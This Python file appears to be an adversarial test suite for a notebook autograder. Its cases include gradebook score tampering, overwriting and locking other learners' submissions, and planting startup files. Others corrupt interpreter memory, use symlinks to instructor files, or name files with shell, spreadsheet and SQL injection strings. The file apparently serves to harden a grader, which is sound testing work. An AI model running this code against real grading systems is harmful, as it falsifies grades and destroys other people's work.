"""Attacks on other people's submissions, scores and reports, and on what is graded next."""

from registry import ATTEND, Files, Link, attack, edit, garbage


@attack
def gradebook_edited():
    """The gradebook is opened as the database it is, and every score set to 26, now and by a thread that keeps on."""
    return garbage(
        first="""
import glob, sqlite3, threading, time
def raise_scores():
    for path in ("@OUT@/gradebook.db", "gradebook.db", "../gradebook.db", *glob.glob("/proc/*/cwd/gradebook.db"),
                 *glob.glob("/proc/*/root@OUT@/gradebook.db")):
        try:
            with sqlite3.connect(path, timeout=0.1) as book:
                book.execute("update grade set auto_score = 26, manual_score = 26, needs_manual_grade = 0")
        except Exception:
            pass
raise_scores()
def again():
    while True:
        raise_scores()
        time.sleep(0.05)
threading.Thread(target=again, daemon=True).start()
"""
    )


@attack
def reports_edited():
    """Reports that are there already are rewritten, and the one that is to come is put in their place beforehand."""
    return garbage(
        first="""
import glob, json, os
for path in glob.glob("@OUT@/*/*.json"):
    try:
        report = json.load(open(path))
        report["earned"] = 26 if "@NAME@" in path else 0
        json.dump(report, open(path, "w"))
    except OSError:
        pass
try:
    os.makedirs("@OUT@/day09/@NAME@.json")
except OSError:
    pass
"""
    )


@attack
def neighbours_spoilt():
    """The other submissions are overwritten with garbage, and their owner's rights taken away."""
    return garbage(
        first="""
import glob, os
for path in [*glob.glob("@CLASS@/*.ipynb"), *glob.glob("../*.ipynb"), *glob.glob("/proc/*/root@CLASS@/*.ipynb")]:
    try:
        open(path, "w").write("{}")
        os.chmod(path, 0)
    except OSError:
        pass
"""
    )


@attack
def the_library_spoilt():
    """The library that the next worker imports is patched: in its folder, in memory shared with it, and in torch's."""
    return garbage(
        first="""
import glob, handmade, os, sys, torch
for place in {os.path.dirname(handmade.__file__), os.path.dirname(torch.__file__), *sys.path}:
    try:
        open(os.path.join(place, "@TOKEN@.py"), "w").write("# @TOKEN@")
    except OSError:
        pass
    try:
        os.utime(os.path.join(place, "attention.py"), (12345, 12345))
    except OSError:
        pass
""",
        mask="def causal_mask(T, device=None):\n    import handmade.attention\n"
        "    handmade.attention.causal_mask = lambda *a: None\n    return torch.zeros(T, T, dtype=torch.bool)",
    )


@attack
def shared_memory_written():
    """The memory shared with the parent is written to: its small integers, interned strings, torch's tables."""
    return garbage(
        everywhere="""
import ctypes, gc
for value in (True, False, "earned", "ok", 26):
    ctypes.memset(id(value) + 16, 0, 8)
for found in gc.get_objects()[:10_000]:
    if isinstance(found, dict) and "__name__" in found:
        found["torch"] = None
"""
    )


@attack
def start_up_files():
    """Files that Python, IPython, matplotlib, nbgrader or a shell would run at their next start."""
    return garbage(
        first="""
import os, site, sys
home = os.path.expanduser("~")
for folder in (*site.getsitepackages(), site.getusersitepackages(), home, home + "/.config/matplotlib",
               home + "/.ipython/profile_default/startup", "@CLASS@", "@OUT@", "@ROOT@", os.getcwd()):
    for name in ("usercustomize.py", "@TOKEN@.pth", "nbgrader_config.py"):
        path = os.path.join(folder, name)
        if not os.path.exists(path):
            try:
                os.makedirs(folder, exist_ok=True)
                open(path, "w").write("# @TOKEN@")
            except OSError:
                pass
"""
    )


@attack
def locks_taken():
    """Locks on the gradebook and the reports are taken and never given back."""
    return garbage(
        first="""
import fcntl, glob
KEPT = []
for path in ("@OUT@/gradebook.db", *glob.glob("@OUT@/*/*"), *glob.glob("@CLASS@/*")):
    try:
        KEPT.append(open(path, "rb"))
        fcntl.flock(KEPT[-1], fcntl.LOCK_EX | fcntl.LOCK_NB)
    except OSError:
        pass
""",
        last="import time; time.sleep(60)",
    )


@attack
def a_link_to_a_neighbour():
    """The submission is a symbolic link to somebody else's notebook."""
    return Files({"@NAME@.ipynb": Link("@NAME@-honest.ipynb")})


@attack
def a_link_to_a_secret():
    """The submission is a link to a file of the instructor's, whose beginning an error message might quote."""
    return Files({"@NAME@.ipynb": Link("@FOLDER@/canary.txt")})


@attack(apart=True)
def a_linked_folder():
    """A folder in nbgrader's layout is a link to the folder of the class, so that all the others are mine."""
    return Files({"@NAME@/week2_attention": Link("@CLASS@")})


@attack(apart=True)
def a_named_pipe():
    """The submission is a named pipe, and whoever opens it waits for ever."""
    return Files({"@NAME@.ipynb": Link()})


@attack(apart=True)
def a_sparse_file():
    """The submission is a gigabyte of nothing."""
    return Files({"@NAME@.ipynb": Link(size=1 << 30)})


@attack
def a_folder_called_notebook():
    """The submission is a folder with a notebook's name, and a file where a learner's folder should be."""
    return Files({"@NAME@.ipynb/inside.ipynb": garbage(), "@NAME@-file/week2_attention": garbage()})


@attack
def climbing_names():
    """Names of files and folders with dots, line breaks, quotes, control characters and a leading dash."""
    return Files(
        {
            f"{name}.ipynb": garbage()
            for name in (
                "--out=x @NAME@",
                "@NAME@\n..\n",
                "@NAME@ $(touch x)`touch x`'\";",
                "..@NAME@",
                ".@NAME@",
                "@NAME@ \x1b[2J\x07\x9b",
            )
        }
    )


@attack
def a_name_like_anothers():
    """A name that is another learner's once it is cleaned for display: a line break where theirs has a space."""
    return Files({"anna\nmaria.ipynb": garbage(), "anna\x7fmaria.ipynb": garbage()})


@attack
def a_name_like_a_page():
    """Learners called index and gradebook, whose report would be the class's page or the gradebook itself."""
    return Files(
        {
            f"{name}.ipynb": garbage()
            for name in ("index", "index-index", "gradebook.db", "gradebook", "no-day")
        }
    )


@attack
def names_that_differ_by_case():
    """Names that are one on some file systems: in capitals, with another form of the same accents, with a final dot."""
    return Files(
        {f"{name}.ipynb": garbage() for name in ("@NAME@-HONEST", "jose\u0301", "jos\xe9", "@NAME@-honest.")}
    )


@attack(apart=True)
def a_name_that_is_not_text():
    """A file name that is not UTF-8."""
    return Files({"@NAME@-\udcff\udcfe.ipynb": garbage()})


@attack(apart=True)
def the_longest_name():
    """A file name as long as the file system allows, to which a report could add nothing."""
    return Files({"n" * 249 + ".ipynb": garbage(), "\N{GRINNING FACE}" * 62 + ".ipynb": garbage()})


@attack
def a_formula_for_a_name():
    """A name that a spreadsheet would run, and one that a database would."""
    return Files(
        {f"{name}.ipynb": garbage() for name in ("=cmd|'calc'!A1", "'; drop table grade; --", "{{ 7 * 7 }}")}
    )


@attack
def answers_of_a_friend():
    """A cell whose heading and id say that it belongs to another learner's notebook."""
    made = garbage()
    made["metadata"] |= {"learner": "@NAME@-honest", "student": "@NAME@-honest", "name": "@NAME@-honest"}
    return edit(made, ATTEND, metadata={"nbgrader": {"grade_id": "day09-attend", "student": "@NAME@-honest"}})
